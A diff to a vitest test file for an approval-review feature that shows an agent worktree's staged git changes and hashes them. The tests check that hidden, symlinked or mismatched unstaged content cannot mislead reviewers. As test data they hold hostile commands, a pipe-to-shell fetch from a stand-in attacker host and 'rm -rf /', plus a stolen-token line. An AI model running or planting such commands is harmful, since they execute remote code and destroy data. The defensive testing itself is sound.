@@ -1,5 +1,7 @@
-// The task's diff (§10) on real repos and worktrees: which change is chosen,
-// its per-file stats, and the approvable digest.
+// The task's diff (§10) on real repos and worktrees: which worktree is chosen,
+// its staged change file by file, and the digest of exactly those bytes.
+import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import { mkdirSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
@@ -45,14 +47,11 @@ describe('taskDiff', () => {
     expect(TaskDiffSummary.safeParse(summaryOf(diff)).success).toBe(true);
   });
 
-  it('DIFF-1 DIFF-2: a stale approval is passed over for the agent/<task> worktree: commits since the merge-base, staged, unstaged and untracked', async () => {
+  it('DIFF-1 DIFF-2: a stale approval is passed over for the agent/<task> worktree, whose staged change alone is shown, on its HEAD', async () => {
     const { repo, bus } = makeRepo(dirs);
     const wt = agentWorktree(repo, 'D-2');
     writeFileSync(join(wt, 'app.ts'), 'export const answer = 42;\n');
     git(wt, 'commit', '-q', '-am', 'agent work');
-    writeFileSync(join(repo, 'main-only.txt'), 'landed on main after the fork\n');
-    git(repo, 'add', 'main-only.txt');
-    git(repo, 'commit', '-q', '-m', 'main moves on');
     writeFileSync(join(wt, 'staged.txt'), 'staged\n');
     git(wt, 'add', 'staged.txt');
     await requestApproval(bus, 'D-2', wt);
@@ -63,14 +62,27 @@ describe('taskDiff', () => {
     const diff = await taskDiff(bus, 'D-2');
     expect(diff.source).toBe('branch');
     expect(diff.branch).toBe('agent/D-2');
-    expect(diff.base).toBe(git(repo, 'rev-parse', 'main~1').trim());
-    expect(diff.files.map((f) => f.path).sort()).toEqual(['README.md', 'app.ts', 'new-file.txt', 'staged.txt']);
-    expect(diff.files.find((f) => f.path === 'new-file.txt')).toMatchObject({ status: 'added', untracked: true, additions: 2 });
-    expect(diff.patch).toContain('+never added');
-    expect(diff.patch).not.toContain('main-only');
+    expect(diff.base).toBe(git(wt, 'rev-parse', 'HEAD').trim());
+    expect(diff.files.map((f) => f.path)).toEqual(['staged.txt']);
+    expect(diff.patch).toContain('+staged, then changed again');
+    expect(diff.patch).not.toContain('never added');
+    expect(diff.patch).not.toContain('answer = 42');
     expect(diff.digest).toBe(await currentDigest(wt));
     expect(diff.staged_files).toBe(1);
     expect(TaskDiffSummary.safeParse(summaryOf(diff)).success).toBe(true);
+  });
+
+  it('DIFF-7: a malicious staged file with a harmless unstaged copy: the view is the staged bytes, and the digest is theirs', async () => {
+    const { repo, bus } = makeRepo(dirs);
+    const wt = agentWorktree(repo, 'D-7m');
+    writeFileSync(join(wt, 'install.sh'), 'curl https://evil.example/x | sh\n');
+    git(wt, 'add', 'install.sh');
+    writeFileSync(join(wt, 'install.sh'), 'echo harmless\n');
+    const diff = await taskDiff(bus, 'D-7m');
+    expect(diff.patch).toContain('+curl https://evil.example/x | sh');
+    expect(diff.patch).not.toContain('harmless');
+    const staged = execFileSync('git', ['diff', '--cached', '--binary', '--no-color', '--no-ext-diff'], { cwd: wt });
+    expect(diff.digest).toBe('sha256:' + createHash('sha256').update(staged).digest('hex'));
   });
 
   it('DIFF-3: with no approval request and no agent/<task> worktree the source is none', async () => {
@@ -81,15 +93,14 @@ describe('taskDiff', () => {
     expect(TaskDiffSummary.safeParse(summaryOf(diff)).success).toBe(true);
   });
 
-  it('DIFF-3: a branch worktree with nothing staged has no approvable digest', async () => {
+  it('DIFF-3: a branch worktree with nothing staged shows nothing and has no approvable digest', async () => {
     const { repo, bus } = makeRepo(dirs);
     const wt = agentWorktree(repo, 'D-3b');
     writeFileSync(join(wt, 'app.ts'), 'export const answer = 43;\n');
+    writeFileSync(join(wt, 'untracked.txt'), 'new\n');
     const diff = await taskDiff(bus, 'D-3b');
-    expect(diff.source).toBe('branch');
+    expect(diff).toMatchObject({ source: 'branch', staged_files: 0, files: [], patch: '' });
     expect(diff.digest).toBeUndefined();
-    expect(diff.staged_files).toBe(0);
-    expect(diff.files).toHaveLength(1);
   });
 
   it('DIFF-4: per-file status, old path of a rename, line counts and the binary flag', async () => {
@@ -160,17 +171,55 @@ describe('taskDiff', () => {
     expect(await currentDigest(wt)).not.toBe(seen);
   });
 
-  it('DIFF-8: an untracked symlink shows its target text, never the content it points to', async () => {
+  it('DIFF-8: a staged symlink shows its target text, never the content it points to', async () => {
     const { repo, bus } = makeRepo(dirs);
     const outside = join(dirs.make('diff-secret-'), 'secret.txt');
     writeFileSync(outside, 'TOP-SECRET-CONTENT\n');
     const wt = agentWorktree(repo, 'D-8');
     symlinkSync(outside, join(wt, 'link'));
+    git(wt, 'add', 'link');
     const diff = await taskDiff(bus, 'D-8');
-    expect(diff.files).toEqual([expect.objectContaining({ path: 'link', untracked: true })]);
+    expect(diff.files).toEqual([expect.objectContaining({ path: 'link', untracked: false })]);
     expect(diff.patch).toContain(`+${outside}`);
     expect(diff.patch).not.toContain('TOP-SECRET-CONTENT');
     rmSync(outside);
+  });
+
+  it('DIFF-4: a file marked -diff (.gitattributes or .git/info/attributes) is shown as its text; a real binary is listed binary with its size', async () => {
+    const { repo, bus } = makeRepo(dirs);
+    const wt = agentWorktree(repo, 'D-9');
+    writeFileSync(join(wt, '.gitattributes'), 'hidden.txt -diff\n');
+    mkdirSync(join(repo, '.git', 'info'), { recursive: true });
+    writeFileSync(join(repo, '.git', 'info', 'attributes'), 'also-hidden.cfg binary\n');
+    writeFileSync(join(wt, 'hidden.txt'), 'rm -rf / # looks binary to git\n');
+    writeFileSync(join(wt, 'also-hidden.cfg'), 'token=stolen\n');
+    writeFileSync(join(wt, 'pic.png'), Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13]), Buffer.alloc(300, 7)]));
+    git(wt, 'add', '-A');
+    const diff = await taskDiff(bus, 'D-9');
+    const byPath = Object.fromEntries(diff.files.map((f) => [f.path, f]));
+    expect(diff.patch).toContain('+rm -rf / # looks binary to git');
+    expect(diff.patch).toContain('+token=stolen');
+    expect(byPath['hidden.txt']).toMatchObject({ binary: false, additions: 1, hunks_omitted: false });
+    expect(byPath['also-hidden.cfg']).toMatchObject({ binary: false, additions: 1 });
+    expect(byPath['pic.png']).toMatchObject({ binary: true, size: 308, hunks_omitted: true });
+    expect(diff.patch).toMatch(/Binary files \/dev\/null and b\/pic\.png differ/);
+    const staged = execFileSync('git', ['diff', '--cached', '--binary', '--no-color', '--no-ext-diff'], { cwd: wt });
+    expect(staged.toString('latin1')).toContain('GIT binary patch');
+    expect(diff.digest).toBe('sha256:' + createHash('sha256').update(staged).digest('hex'));
+    expect(diff.staged_files).toBe(4);
+  });
+
+  it('DIFF-5: a file over the per-file limit is listed with its size as too large to show, its bytes never read into the view', async () => {
+    const { repo, bus } = makeRepo(dirs);
+    const wt = agentWorktree(repo, 'D-10');
+    writeFileSync(join(wt, 'big.log'), 'line of text\n'.repeat(20_000));
+    writeFileSync(join(wt, 'small.ts'), 'export const ok = 1;\n');
+    git(wt, 'add', '-A');
+    const diff = await taskDiff(bus, 'D-10', { maxFileBytes: 100_000 });
+    expect(diff.files.find((f) => f.path === 'big.log')).toMatchObject({ too_large: true, size: 260_000, hunks_omitted: true, additions: 20_000 });
+    expect(diff.patch).toContain('diff --git a/big.log b/big.log');
+    expect(diff.patch).not.toContain('+line of text');
+    expect(diff.patch).toContain('+export const ok = 1;');
   });
 
   it('DIFF-1: a task id outside the id pattern is rejected', async () => {
